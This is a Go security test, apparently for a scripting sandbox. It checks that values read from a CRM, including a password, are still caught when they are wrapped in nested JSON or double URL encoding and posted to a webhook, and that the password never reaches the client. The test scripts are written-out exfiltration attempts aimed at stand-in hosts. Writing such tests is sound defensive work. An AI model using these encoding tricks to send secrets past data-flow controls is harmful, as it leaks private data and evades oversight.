package security

import (
	"strings"
	"testing"
)

// TestDataFlowFollowsLayeredEncodings (issue 19, attack28 T1–T3): a value
// in JSON text put in a query parameter (encodeURIComponent of
// JSON.stringify), in JSON text inside JSON text, or URL-encoded twice is
// followed by the rules, and a password so encoded is hidden from the
// client.
func TestDataFlowFollowsLayeredEncodings(t *testing.T) {
	t.Parallel()
	s := formsServer(t, `{"street":"Hauptstraße 17","notes":"Call after 3pm,\nonly on \"Mondays\"","password":"winter\"autumn-leaves-fall"}`)
	alice := s.open(t, aliceToken)
	const get = `const d = await crmx.get_deal({});`
	for _, expr := range []string{
		`"https://x.example/?q=" + encodeURIComponent(JSON.stringify({n: d.notes}))`,
		`JSON.stringify({body: JSON.stringify({n: d.notes})})`,
		`encodeURIComponent(encodeURIComponent(d.street))`,
	} {
		rec := alice.run(get + ` await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); return "SENT"`)
		if rec.Status != "error" || rec.Error == nil || rec.Error.Code != "policy_violation" {
			t.Errorf("a crmx value reached http as %s: %.400s", expr, rec.raw)
		}
	}
	rec := alice.run(get + ` const body = JSON.stringify({user: "ann", pass: d.password}); return {url: "https://x.example/?q=" + encodeURIComponent(body), twice: JSON.stringify({body}), url2: encodeURIComponent(encodeURIComponent(d.password))}`)
	if rec.Status != "ok" {
		t.Fatalf("run: %.400s", rec.raw)
	}
	for _, form := range []string{"autumn-leaves", "winter"} {
		if strings.Contains(rec.raw, form) {
			t.Errorf("%s reached the client: %.600s", form, rec.raw)
		}
	}
	alice.normal()
}
